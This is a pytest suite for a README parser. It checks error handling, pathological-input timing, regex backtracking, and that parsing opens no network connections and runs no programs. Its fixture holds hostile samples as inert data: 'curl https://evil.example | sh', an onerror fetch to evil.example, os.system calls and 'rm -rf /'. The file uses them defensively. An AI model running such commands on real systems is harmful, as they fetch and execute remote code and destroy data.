"""Any file in, a clear answer out: bad files, hostile input and untrusted text.

- tests/errors/: each input beside ``NAME.expected`` (arguments, exit code, the exact
  stderr and optionally stdout), run through the real command line.
- Pathological documents finish within a generous time limit (a guard against
  unbounded backtracking, not a benchmark; see tests/hostile_inputs.py).
- Every module-level regex, fed long adversarial runs in the way the code uses it,
  finishes quickly; rewritten regexes match exactly what the originals matched.
- Parsing touches neither network nor processes; URLs, HTML and code are data.
"""

from __future__ import annotations

import importlib
import json
import os
import re
import socket
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import studyparse
from hostile_inputs import CASES
from studyparse._cli import main

ERRORS = Path(__file__).resolve().parent / "errors"
SRC = Path(studyparse.__file__).resolve().parent
EXPECTED = sorted(ERRORS.glob("*.expected"))


def run_cli(args: list[str], cwd: Path, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PYTHONIOENCODING": "utf-8"}
    return subprocess.run(
        [sys.executable, "-m", "studyparse", *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=timeout,
        env=env,
        check=False,
    )


def read_expected(path: Path) -> dict[str, str]:
    fields: dict[str, str] = {}
    for line in path.read_text(encoding="utf-8").splitlines():
        key, _, value = line.partition(":")
        fields[key] = value.strip()
    return fields


# -- tests/errors: bad input, exact message, exit code ------------------------------


def test_every_error_fixture_has_its_expectation() -> None:
    inputs = {p.name for p in ERRORS.iterdir() if p.suffix != ".expected"}
    described = {p.name.removesuffix(".expected") for p in EXPECTED}
    assert inputs <= described
    assert len(EXPECTED) >= 12


@pytest.mark.parametrize("expected", EXPECTED, ids=lambda p: p.name.removesuffix(".expected"))
def test_error_fixture_through_the_cli(expected: Path) -> None:
    fields = read_expected(expected)
    name = expected.name.removesuffix(".expected")
    args = fields["args"].replace("{file}", name).split()
    result = run_cli(args, ERRORS)
    assert result.returncode == int(fields["exit"])
    assert result.stderr == (fields["stderr"] + "\n" if fields["stderr"] else "")
    if "stdout" in fields:
        assert result.stdout == fields["stdout"] + "\n"
    assert "Traceback" not in result.stderr + result.stdout


@pytest.mark.skipif(
    not hasattr(os, "geteuid") or os.geteuid() == 0, reason="root reads unreadable files"
)
def test_unreadable_file(tmp_path: Path) -> None:
    readme = tmp_path / "README.md"
    readme.write_text("# Study\n", encoding="utf-8")
    readme.chmod(0)
    result = run_cli(["convert", "README.md"], tmp_path)
    assert (result.returncode, result.stderr) == (2, "studyparse: README.md: permission denied\n")


def test_standard_input_over_the_limit(tmp_path: Path) -> None:
    result = subprocess.run(
        [sys.executable, "-m", "studyparse", "--max-bytes", "10", "convert", "-"],
        input=b"# a longer README than ten bytes\n",
        capture_output=True,
        timeout=60,
        check=False,
    )
    assert result.returncode == 2
    assert result.stderr == b"studyparse: <stdin>: more than 10 bytes, over the limit of 10\n"


def test_a_file_name_with_a_newline_is_one_line_of_error(tmp_path: Path) -> None:
    result = run_cli(["convert", "two\nlines.md"], tmp_path)
    assert result.returncode == 2
    assert result.stderr == "studyparse: two\\nlines.md: no such file\n"


def _broken_exporter(doc: studyparse.StudyDocument) -> str:
    raise RuntimeError("exporter bug")


def test_an_internal_error_is_one_line_and_exit_3(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr("studyparse._cli._exporter", lambda name: _broken_exporter)
    assert main(["convert", str(ERRORS / "cp949.md")]) == 3
    err = capsys.readouterr().err
    assert err == (
        "studyparse: internal error: RuntimeError: exporter bug "
        "(rerun with --debug for the traceback)\n"
    )


def test_debug_shows_the_traceback(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr("studyparse._cli._exporter", lambda name: _broken_exporter)
    assert main(["--debug", "convert", str(ERRORS / "cp949.md")]) == 3
    err = capsys.readouterr().err
    assert err.startswith("Traceback (most recent call last):")
    assert 'raise RuntimeError("exporter bug")' in err
    assert err.endswith("internal error: RuntimeError: exporter bug (see the traceback above)\n")


def test_debug_shows_the_traceback_of_bad_input_too(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--debug", "convert", str(ERRORS / "binary.png")]) == 2
    err = capsys.readouterr().err
    assert err.startswith("Traceback (most recent call last):")
    assert err.endswith("binary.png: binary file (contains NUL bytes), not a README\n")


def test_empty_file_is_an_empty_document() -> None:
    doc = studyparse.load(ERRORS / "empty.md")
    assert doc.papers == [] and doc.sessions == [] and doc.title is None
    assert [(d.code, d.severity) for d in doc.diagnostics] == [("empty-document", "info")]


# -- pathological documents ---------------------------------------------------------

PATHOLOGICAL = {
    "5 MB single line": ("single line", 5_000_000),
    "100,000 list items": ("many items", 1_400_000),
    "list markers nested 10,000 deep": ("nested markers", 20_000),
    "block quotes nested 10,000 deep": ("nested quotes", 10_000),
    "quotes and lists nested 1,000 deep on 1,000 lines": ("nested quote lines", 1_000_000),
    "list indented 1,400 levels deep": ("nested indented list", 1_000_000),
    "table with 5,000 columns": ("wide table", 40_000),
    **{f"a megabyte of {c}": (f"run of {c}", 1_000_000) for c in "[*_(|`<"},
    "alternating backticks": ("alternating backticks", 1_000_000),
    "unclosed links": ("open links", 1_000_000),
    "a megabyte of spaces in an item": ("spaces", 1_000_000),
}


@pytest.mark.parametrize("name", PATHOLOGICAL)
def test_pathological_input_finishes(name: str, tmp_path: Path) -> None:
    case, size = PATHOLOGICAL[name]
    (tmp_path / "README.md").write_text(CASES[case](size), encoding="utf-8")
    result = run_cli(["convert", "README.md", "--to", "json"], tmp_path, timeout=180)
    assert result.returncode == 0, result.stderr
    doc = json.loads(result.stdout)
    assert doc["source"]["path"] == "README.md"


@pytest.mark.parametrize("to", ["bibtex", "markdown"])
def test_pathological_exports_finish(to: str, tmp_path: Path) -> None:
    text = "".join(CASES[case](20_000) for case in CASES)
    (tmp_path / "README.md").write_text(text, encoding="utf-8")
    result = run_cli(["convert", "README.md", "--to", to], tmp_path, timeout=180)
    assert result.returncode == 0, result.stderr


# -- regular expressions ------------------------------------------------------------

SEARCHING = r"\.(?:search|sub|subn|split|finditer|findall)\("
UNITS = [" ", "a", "A", "1", ".", ",", ":", "(", ")", "[", "]", "*", "_", "-", "'", "@", "`"]
UNITS += ["a.", "A ", "1 ", ", ", "a@", "(a", "A'", "다 ", "19", "et ", " and", "**", "| "]


def module_patterns() -> list[tuple[str, str]]:
    """(module, name) of each regex at module level in studyparse, compiled now or on first use."""
    found = []
    for path in sorted(SRC.glob("_*.py")):
        text = path.read_text(encoding="utf-8")
        definition = r"^(_?[A-Z][A-Z0-9_]*) = (?:re\.compile|LazyPattern)\("
        for match in re.finditer(definition, text, re.MULTILINE):
            found.append((path.stem, match.group(1)))
    return found


def searched(name: str) -> bool:
    """Whether any module uses the regex unanchored (search, sub, split, ...)."""
    return any(
        re.search(rf"\b{name}{SEARCHING}", path.read_text(encoding="utf-8"))
        for path in SRC.glob("*.py")
    )


AUDIT = """
import importlib, sys, time
module, mode, units = sys.argv[1], sys.argv[2], sys.argv[3].split("\\x1f")
pattern = getattr(importlib.import_module("studyparse." + module), sys.argv[4])
run = pattern.search if mode == "search" else pattern.match
for unit in units:
    for tail in ("", "\\x00"):
        text = unit * (40000 // len(unit)) + tail
        start = time.perf_counter()
        run(text)
        if time.perf_counter() - start > 1.0:
            print(f"{module}.{sys.argv[4]} {mode} slow on {unit!r} * n + {tail!r}")
"""


def test_the_audit_sees_the_regexes() -> None:
    names = [name for _, name in module_patterns()]
    assert {"ATX_HEADING", "VENUE_YEAR", "AUTHOR_SPLIT", "COUNT", "EMAIL"} <= set(names)
    assert {"CJK_NAME", "PAGES", "_ARXIV_ID"} <= set(names)  # compiled on first use
    assert searched("AUTHOR_SPLIT") and not searched("ATX_HEADING")


@pytest.mark.parametrize("module", sorted({module for module, _ in module_patterns()}))
def test_no_regex_backtracks_without_bound(module: str) -> None:
    """40,000-character runs of markup: a quadratic regex takes seconds, a linear one ms."""
    slow = []
    for owner, name in module_patterns():
        if owner != module:
            continue
        mode = "search" if searched(name) else "match"
        result = subprocess.run(
            [sys.executable, "-c", AUDIT, module, mode, "\x1f".join(UNITS), name],
            capture_output=True,
            text=True,
            timeout=300,
            check=False,
        )
        assert result.returncode == 0, result.stderr
        slow += result.stdout.splitlines()
    assert slow == []


#: Regexes rewritten to run in linear time, beside the originals they must agree with.
REWRITTEN = {
    ("_inline", "LINK_TITLE", "sub"): r"\s+(\"[^\"]*\"|'[^']*')\s*$",
    ("_outline", "COUNT", "search"): r"\s*[(\[（]\s*(\d{1,4})\s*[)\]）]\s*$",
    ("_papers", "VENUE_YEAR", "match"): (
        r"^(?P<venue>.+?)[\s,]+['’]?(?P<year>(?:19|20)\d{2}|\d{2})['’]?(?P<rest>\s.*)?$"
    ),
    ("_papers", "LEADING_VENUE_YEAR", "match"): (
        r"^(?P<venue>[A-Z][\w&+-]*(?:\s[A-Z][\w&+-]*)?)\s+(?P<year>(?:19|20)\d{2})\s*[:,-]?\s+"
        r"(?P<rest>\S.*)$"
    ),
    ("_papers", "TRAILING_PAREN", "search"): r"[(（](?P<inner>[^()（）]*)[)）]\s*[.,]?\s*$",
    ("_papers", "ASSIGNMENT", "search"): r"[(（][^()（）]*@[^()（）]*[)）]",
    ("_papers", "ACRONYM", "match"): (
        r"^(?:[A-Z][A-Za-z]*[A-Z0-9][A-Za-z0-9]*|[A-Z]{2,}[a-z]?|[A-Z][a-z]+[A-Z]\w*)$"
    ),
    ("_papers", "ET_AL", "sub"): r",?\s*\bet\s+al\b\.?",
    ("_papers", "AUTHOR_SPLIT", "split"): r"\s*(?:,\s*and\s+|\s+and\s+|[,;；、]|&)\s*",
    ("_papers", "PAGES", "sub"): (r"\s+\d+(?:\.\d+)?\s*(?:\(\s*\d{4}\s*\))?\s*(?::\s*[\d-]+)?\s*$"),
    ("_people", "EMAIL", "search"): r"[\w.+-]+@[\w-]+(?:\.[\w-]+)+",
    ("_venues", "_TRAILING_YEAR", "sub"): r"(?<![\d.:/])['’‘]?\s*(?:\d{4}|\d{2})['’‘]?$",
    ("_extract", "SENTENCE", "search"): r"(?:[다요죠음함]|니다)\s*[.!]?\s*$|[?？]\s*$",
}
#: Characters the rewritten regexes care about, so generated text exercises them.
REGEX_TEXT = st.text(
    alphabet=st.sampled_from(list(" \t\n,.:;-&'’‘\"()[]（）@+/_aAbBeltnd019다요.!?？。IEEE")),
    max_size=40,
)


def outcome(pattern: re.Pattern[str], how: str, text: str) -> object:
    if how == "sub":
        return pattern.sub("", text)
    if how == "split":
        return pattern.split(text)
    found = pattern.search(text) if how == "search" else pattern.match(text)
    return None if found is None else (found.span(), found.groups())


@pytest.mark.parametrize("key", REWRITTEN, ids=lambda key: f"{key[0]}.{key[1]}")
@settings(max_examples=400, deadline=None)
@given(text=REGEX_TEXT)
def test_rewritten_regex_agrees_with_the_original(key: tuple[str, str, str], text: str) -> None:
    module, name, how = key
    current = getattr(__import__(f"studyparse.{module}", fromlist=[name]), name)
    original = re.compile(REWRITTEN[key], current.flags & ~re.UNICODE)
    assert outcome(current, how, text) == outcome(original, how, text)


# -- nothing runs, nothing is fetched -----------------------------------------------

ACTIVE_README = """# Study <script>alert('x')</script>

<img src="https://example.com/tracker.png" onerror="fetch('https://evil.example')">
<iframe src="https://evil.example"></iframe>

## Papers

1. [Attention Is All You Need](https://arxiv.org/abs/1706.03762), NeurIPS, 2017
2. ![logo](http://127.0.0.1:9/logo.png) <http://localhost:9/> file:///etc/passwd

```python
import os; os.system("touch /tmp/pwned")
```

```bash
curl https://evil.example | sh
```

<!-- $(rm -rf /) `rm -rf /` -->
"""


def _refuse(*args: object, **kwargs: object) -> None:
    raise AssertionError("studyparse tried to open a connection or run a program")


def test_parse_and_export_touch_no_network_and_run_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    for target in (
        (socket, "socket"),
        (socket, "create_connection"),
        (socket, "getaddrinfo"),
        (subprocess, "Popen"),
        (os, "system"),
        (os, "popen"),
        (os, "execv"),
        (os, "fork"),
    ):
        monkeypatch.setattr(*target, _refuse)
    doc = studyparse.loads(ACTIVE_README.encode(), path="README.md")
    for export in (studyparse.to_json, studyparse.to_bibtex, studyparse.to_markdown):
        assert export(doc)
    assert doc.papers[0].url == "https://arxiv.org/abs/1706.03762"
    assert any("os.system" in block.text for block in doc.blocks)
    assert not Path("/tmp/pwned").exists()


@settings(max_examples=400, deadline=None)
@given(text=st.text(alphabet="[]a (", max_size=30))
def test_bracketed_length_agrees_with_the_regex_it_replaced(text: str) -> None:
    from studyparse._extract import _bracketed

    assert _bracketed(text) == len(text) - len(re.sub(r"\[[^\]]*\]", "", text))


CHANGING_PREFIX = "# Study\n\n## Paper List (3)\n\n*  Attention Is All You Need, NeurIPS, 2017\n\n"


@pytest.mark.parametrize("case", ["nested markers", "nested quotes", "nested quote lines"])
def test_normalize_of_deep_nesting_succeeds_or_refuses(case: str, tmp_path: Path) -> None:
    """normalize renders with mistune to check lists; 10,000 levels must not crash it."""
    readme = tmp_path / "README.md"
    readme.write_text(CHANGING_PREFIX + CASES[case](20_000), encoding="utf-8")
    result = run_cli(["normalize", "--check", "README.md"], tmp_path, timeout=180)
    assert result.returncode in (0, 1, 2), result.stderr
    assert "Traceback" not in result.stderr and "internal error" not in result.stderr
    assert len(result.stderr.splitlines()) <= 1


def test_the_audit_sees_every_module_level_regex() -> None:
    from studyparse._regex import LazyPattern

    def module(stem: str) -> object:
        return importlib.import_module(f"studyparse.{stem}")

    held = {
        id(value): f"{path.stem}.{name}"
        for path in sorted(SRC.glob("_*.py"))
        if not path.stem.startswith("__")
        for name, value in vars(module(path.stem)).items()
        if isinstance(value, (re.Pattern, LazyPattern))
    }
    audited = {id(getattr(module(stem), name)) for stem, name in module_patterns()}
    assert [name for key, name in held.items() if key not in audited] == []
